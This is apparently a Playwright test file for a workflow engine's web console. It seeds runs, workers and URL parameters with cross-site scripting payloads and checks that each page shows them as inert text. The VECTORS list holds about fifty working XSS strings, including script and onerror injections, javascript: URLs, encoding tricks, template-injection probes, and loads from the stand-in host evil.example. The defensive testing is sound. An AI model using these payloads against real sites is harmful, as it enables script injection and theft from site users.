"""What users name and record is text: in Chromium, in every place where it comes to a page."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote, urlencode
from uuid import UUID

from grctl.ids import new_run_id
from tests.histories.stored import read
from tests.support import wait_until

HIT = "window.hit=1"
VECTORS = (
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<SCRIPT/x>{HIT}</SCRIPT >",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={HIT}>",
    f"<img/src=x/onerror={HIT}//",
    f"<IMG SRC=x oNeRrOr='{HIT}'>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=20>go</text></a></svg>",
    f"<math><mtext></p><img src=x onerror={HIT}></math>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src='javascript:parent.hit=1'></iframe>",
    "<object data='data:text/html,<script>parent.hit=1</script>'></object>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    "<base href='//evil.example/'>",
    f"<form action='javascript:{HIT}'><button>go</button></form>",
    f"<a href='javascript:{HIT}'>go</a>",
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}//",
    f"data:text/html,<script>{HIT}</script>",
    f'"><script>{HIT}</script>',
    f"'><img src=x onerror={HIT}>",
    f'" autofocus onfocus="{HIT}" x="',
    f"' onmouseover='{HIT}' x='",
    f"` onclick=`{HIT}`",
    f"</title></style></textarea></pre></option></select><svg onload={HIT}>",
    f"--><img src=x onerror={HIT}><!--",
    f"]]><img src=x onerror={HIT}>",
    f"{{{{ 7 * 7 }}}}{{% set x = 1 %}}${{{HIT}}}#{{{HIT}}}",
    "{{ ''.__class__.__mro__ }}",
    f"`{HIT}` <b onclick={HIT}>`",
    "<style>*{background:url(//evil.example/css)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "x;} body{background:url(//evil.example/)} {",
    "&lt;script&gt;&#60;img src=x&#62;&amp;",
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
    f"<\u200bscript>{HIT}</\u200bscript>",
    f"\u202e<script>{HIT}</script>\u2066",
    f"<img src=x onerror=\\u0077indow.hit=1>\u2028{HIT}",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"\ufeff+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
)  # fmt: skip

NULLED = f"<scr\0ipt>{HIT}</scr\0ipt><img src=x onerror\0={HIT}>"
"""Of JSON values alone: PostgreSQL has no text with a NUL."""


ALL = " ".join(VECTORS)
FOURS = [" ".join(VECTORS[n : n + 4]) for n in range(0, len(VECTORS), 4)]
"""A page of each takes a while; lists have each vector by itself."""

STORIES = ("event_after_wait", "updated", "child_handled", "step_failed", "run_retried")
"""Golden histories of what the runs of single vectors do not have."""

MEANT = ("next", "cause", "kind", "status", "policy", "wf_run_id", "run_id", "id")
"""What histories mean something by: not a user's text."""

# What a page is made of, once everything on it is open: nothing that could run, load or lead away.
LOOK = """() => {
    document.querySelectorAll("details").forEach(each => each.open = true);
    const all = [...document.querySelectorAll("*")];
    return {
        hit: window.hit ?? null,
        violations: window.violations,
        attributes: all.flatMap(each => [...each.attributes].map(a => a.name))
            .filter(name => /^on|^style$|srcdoc|formaction|xlink/.test(name)),
        elements: all.map(each => each.localName).filter(name =>
            /^(style|base|iframe|object|embed|video|math|animate|foreignobject)$/.test(name)),
        scripts: [...document.scripts].map(each => each.getAttribute("src").split("?")[0]),
        schemes: [...new Set([...document.links].map(each => each.protocol))],
        refresh: document.querySelectorAll("meta[http-equiv]").length,
        text: document.body.textContent,
        fields: [...document.querySelectorAll("input, textarea, option")].map(e => e.value),
    };
}"""


async def seen(page: Any, path: str) -> dict[str, Any]:
    """What is on the page, which must be harmless."""
    await page.goto(path)
    found: dict[str, Any] = await page.evaluate(LOOK)
    assert found["hit"] is None, path
    assert found["violations"] == [], path
    assert found["attributes"] == [], path
    assert found["elements"] == [], path
    assert found["scripts"] == ["/static/app.js"], path
    assert set(found["schemes"]) <= {"http:"}, path
    assert found["refresh"] == 0, path
    return found


def spoiled(value: Any, bad: str) -> Any:
    """A recorded value with the vector for each text, but for what the history itself means."""
    if isinstance(value, str):
        return bad
    if isinstance(value, list):
        return [spoiled(each, bad) for each in value]
    if isinstance(value, dict):
        return {k: v if k in MEANT else spoiled(v, bad) for k, v in value.items()}
    return value


def as_recorded(text: str | None, bad: str) -> str | None:
    return None if text is None else json.dumps(spoiled(json.loads(text), bad))


async def plant(database: Any, bad: str, story: str = "task_retried") -> UUID:
    """A failed run with the vector in every text that it has, and a type and a worker so named."""
    run_id, value = new_run_id(), json.dumps({bad: [bad, NULLED]})
    stack = f"Traceback (most recent call last):\n  {bad}"
    error = {"type": bad, "qualified_type": bad, "message": bad, "stack_trace": stack,
             "args": [bad], "attributes": {bad: bad}}  # fmt: skip
    await database.execute(
        """
        insert into grctl.runs (
            run_id, wf_id, wf_type, status, step_name, started_at, ended_at, inbox_tail,
            input, result, error, trace)
        values ($1, left($2, 255), $2, 'failed', $2, grctl.now(), grctl.now(), 1, $3, $3, $4, $2)
        """,
        run_id, bad, value, json.dumps({"step": bad, "error": error}),
    )  # fmt: skip
    no = await database.fetchval(
        """
        insert into grctl.workers (
            worker_id, worker_name, wf_types, concurrency, lease_seconds, lease_until)
        values ($1, $1, array[$1], 5, 60, grctl.now() + interval '1 hour')
        returning worker_no
        """,
        bad,
    )
    history, _ = read(story)
    for row in history.rows:
        await database.execute(
            """
            insert into grctl.events (
                run_id, seq, step_no, step_attempt, kind, op, name, place, attempt, micros, batch,
                epoch, worker_no, input, body)
            values ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, 1, $12, $13, $14)
            """,
            run_id, row.seq, row.step_no, row.step_attempt, row.kind, row.op,
            row.name and bad, row.place, row.attempt, row.micros, row.batch, no,
            as_recorded(row.input, bad), as_recorded(row.body, bad),
        )  # fmt: skip
    await database.execute(
        """
        with stored as (insert into grctl.store (run_id, key, value) values ($1, $2, $3)),
        sent as (
            insert into grctl.inbox (run_id, no, kind, name, payload)
            values ($1, 1, 'event', $2, $3)),
        noted as (
            insert into grctl.audit (actor, peer, action, run_id, wf_id, details, outcome)
            values ($2, $2, $2, $1, $2, $3, $2))
        insert into grctl.workflow_types (
            wf_type, start_step, step_names, event_names, query_names, update_names)
        values ($2, $2, array[$2], array[$2], array[$2], array[$2])
        on conflict do nothing
        """,
        run_id, bad, value,
    )  # fmt: skip
    return run_id


async def test_what_a_run_holds_is_text_on_its_pages(page, database):
    for bad in FOURS:
        run = f"/runs/{await plant(database, bad)}"
        found = await seen(page, run)
        for place in ("#wf-id", ".failure .error-line", "#store dt", "#inbox b", "#timeline .name",
                      "#events .what", "#acts td"):  # fmt: skip
            told = await page.locator(place).all_text_contents()
            assert any(bad[:100] in each for each in told), (place, bad)
        assert f"  {bad}" in found["text"]


async def test_what_histories_and_lists_name_is_text(page, database):
    for story in STORIES:
        run = f"/runs/{await plant(database, ALL, story)}"
        count = (await seen(page, run))["text"].count(ALL)
        assert count > 5, story
        assert ALL in (await seen(page, f"{run}/query"))["fields"]
        for seq in (1, 4, 5):
            await seen(page, f"{run}/events/{seq}")
    runs = [await plant(database, bad) for bad in VECTORS]
    for path in ("/types", "/workers", "/runs?id=*", "/start"):
        found = await seen(page, path)
        known = [found["text"], *found["fields"]]
        missing = [bad for bad in VECTORS if not any(bad in each for each in known)]
        assert missing == [], path
    found = await seen(page, "/?window=15m")
    assert any(bad in found["text"] for bad in VECTORS)
    for of in ("input", "result", "error"):
        await page.goto(f"/runs/{runs[0]}/value?of={of}")
        assert await page.evaluate("window.hit ?? null") is None
        assert await page.evaluate("document.contentType") == "text/plain"


async def test_what_an_address_says_is_text(page, database):
    run = f"/runs/{await plant(database, 'quiet')}"
    for bad in FOURS:
        given = dict.fromkeys(("id", "type", "text", "since", "until"), bad)
        found = await seen(page, f"/runs?{urlencode(given)}")
        assert found["fields"].count(bad) >= 4, bad
        assert "takes 30s" in found["text"]
    names = ("said", "window", "part", "page", "events", "before", "status", "next", "copy", "name")
    asked = urlencode(dict.fromkeys(names, ALL))
    for path in ("/", "/runs", run, "/start", "/workers", f"{run}/query", f"{run}/retry"):
        await seen(page, f"{path}?{asked}")
    answer = await page.goto(f"/runs/{quote(ALL, safe='')}")
    assert answer.status == 404
    assert await page.evaluate("window.hit ?? null") is None


async def test_what_is_typed_and_answered_is_text(page, client, worker, database):
    await page.goto("/start")
    await page.get_by_label("Workflow id (").fill(VECTORS[0])
    await page.get_by_label("Input").fill(ALL)
    await page.get_by_role("button", name="Start", exact=True).click()
    await page.get_by_role("alert").wait_for()
    found = await page.evaluate(LOOK)
    assert found["hit"] is None
    assert ALL in found["fields"]
    given = {"order": "x-1", "items": list(VECTORS), "pause": 0, "weight": 0}
    handle = await client.start_workflow("shop.parcels", "x-1", given)

    async def waits() -> bool:
        sql = "select status = 'waiting' from grctl.runs where wf_id = 'x-1'"
        return bool(await database.fetchval(sql))

    await wait_until(waits, "x-1 waits", timeout=30)
    await seen(page, f"/runs/{handle.run_id}")
    await page.get_by_role("link", name="Ask a query").click()
    await page.get_by_role("dialog").get_by_role("button", name="Ask").click()
    answer = page.locator("pre.json").filter(has_text="grams")
    await answer.wait_for()
    items = [each["item"] for each in json.loads(await answer.inner_text())]
    assert items == list(VECTORS)
    assert await page.evaluate("window.hit ?? null") is None
